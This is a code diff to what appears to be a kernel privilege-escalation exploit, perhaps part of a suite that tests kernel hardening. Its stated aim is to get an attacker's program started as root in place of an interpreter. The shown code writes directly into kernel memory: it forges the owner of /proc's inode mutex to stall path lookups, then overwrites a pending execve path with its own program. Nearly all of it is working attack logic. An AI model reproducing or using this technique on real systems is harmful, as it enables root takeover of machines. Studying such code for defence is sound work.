@@ -15,7 +15,7 @@ ATTACK("cred_integrity", "interpreter_name", "LOST",
        "The attacker's program is started in the place of the interpreter, as root.");
 
 #define MARK_BYTE 18
-#define DIRECTORY "/proc/self/root/" /* is looked up with memory of procfs */
+#define DIRECTORY "/proc/1/../../" /* the number is looked up under a lock each time */
 #define LAWFUL "./lawful"
 #define MINE "tmp/mine"
 #define PROGRAM_SIZE_MAX (1 << 20)
@@ -81,55 +81,49 @@ static void make_own_program(void)
 	write_program("/" MINE, "", 0755);
 }
 
-/* Of the cache of procfs's nodes: an allocation waits for it. */
-static uint64_t nodes_lock(void)
-{
-	const uint64_t slabs = peek(symbol("heap_slabs_base"));
-	const uint64_t count = peek32(symbol("heap_slab_count"));
-
-	for (uint64_t i = 1; i < count; i++) {
-		const uint64_t cache = peek(slabs + i * SLAB_SIZE + member("heap_slab.cache"));
-
-		if (cache && is_named(cache, "struct proc_node"))
-			return peek(cache + member("heap_cache.state")) +
-			       member("heap_state.lock") + member("spin_lock.holder");
-	}
-	return 0;
-}
-
 /* The lawful way: root's program is started by its interpreter. */
 static bool control(void)
 {
 	long child;
 
-	call3(__NR_open, (long)"/proc/self/status", O_RDONLY, 0);
 	make_own_program();
 	child = start_waiting(0, SET_ID, environment, 1);
 	start_go();
-	return is_ordinary() && nodes_lock() != 0 && wait_program(child) >> 8 == 1;
+	return is_ordinary() && wait_program(child) >> 8 == 1;
 }
 
-static bool fire(void)
+/* Over the name of the interpreter that is being looked for. */
+static void change_name(void)
 {
-	const uint64_t lock = nodes_lock(), path = member("execution.path");
+	const uint64_t path = member("execution.path");
 	uint64_t execution = 0, mine;
-	long child;
 
-	(void)own_cpu(0);
-	child = start_waiting(0, SET_ID, environment, 1);
-	poke_sized(lock, HOLDER, 2);
-	start_go();
 	for (int i = 0; i < 500 && !execution; i++) {
 		sleep_milliseconds(1);
 		execution = find_execution_with(path);
 	}
-	sleep_milliseconds(3);
+	sleep_milliseconds(5);
 	__builtin_memcpy(&mine, MINE, sizeof(mine));
 	if (execution)
 		poke(peek(execution + path) + sizeof(DIRECTORY) - 1, mine);
 	else
 		say_part("attacker: no execve to be seen\n");
-	poke_sized(lock, 0, 2);
+}
+
+/* Who looks for a process in /proc waits for the directory's lock; who gives it back wakes him. */
+static bool fire(void)
+{
+	const long child = start_waiting(0, SET_ID, environment, 1);
+	const long directory = call3(__NR_open, (long)"/proc", O_RDONLY, 0);
+	const uint64_t inode = peek(file_struct(own_task(), (int)directory) + member("file.inode"));
+	const uint64_t owner = inode + member("inode.lock") + member("mutex.owner");
+
+	(void)own_cpu(0);
+	poke(owner, own_task());
+	start_go();
+	change_name();
+	poke(owner, 0);
+	call4(__NR_newfstatat, directory, (long)"1", (long)program, 0);
 	return wait_program(child) >> 8 == 77;
 }
 
